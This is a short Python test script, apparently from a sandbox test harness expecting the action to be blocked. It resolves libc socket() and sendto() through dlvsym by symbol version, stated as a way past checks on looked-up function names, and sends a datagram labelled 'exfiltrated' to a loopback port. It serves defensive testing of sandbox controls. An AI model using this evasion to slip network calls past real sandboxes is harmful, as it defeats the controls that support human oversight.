# ruff: noqa: F821, E402, SIM115 - T (the targets) comes from the harness; attacks keep files open
"""Send a UDP datagram to the host's loopback through libc socket() and sendto() found by symbol
version."""

# expect: blocked
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.dlvsym.restype = ctypes.c_void_p
libc.dlvsym.argtypes = (ctypes.c_void_p, ctypes.c_char_p, ctypes.c_char_p)


def native(name, restype, *argtypes):
    """A C function found by symbol version (dlvsym): past any check on looked-up names."""
    for version in (b"GLIBC_2.2.5", b"GLIBC_2.17", b"GLIBC_2.34"):
        address = libc.dlvsym(libc._handle, name.encode(), version)
        if address:
            return ctypes.CFUNCTYPE(restype, *argtypes, use_errno=True)(address)
    raise OSError(f"{name} not found")


def check(result, what):
    if result < 0:
        raise OSError(ctypes.get_errno(), f"{what} failed")
    return result


import socket
import struct

fd = check(
    native("socket", ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_int)(
        socket.AF_INET, socket.SOCK_DGRAM, 0
    ),
    "socket",
)
address = struct.pack("<H", socket.AF_INET) + struct.pack(">H", T["UDP_PORT"])
address += socket.inet_aton("127.0.0.1") + bytes(8)
sendto = native(
    "sendto",
    ctypes.c_ssize_t,
    ctypes.c_int,
    ctypes.c_char_p,
    ctypes.c_size_t,
    ctypes.c_int,
    ctypes.c_char_p,
    ctypes.c_uint32,
)
check(sendto(fd, b"exfiltrated", 11, 0, address, len(address)), "sendto")
print(T["MARK"])
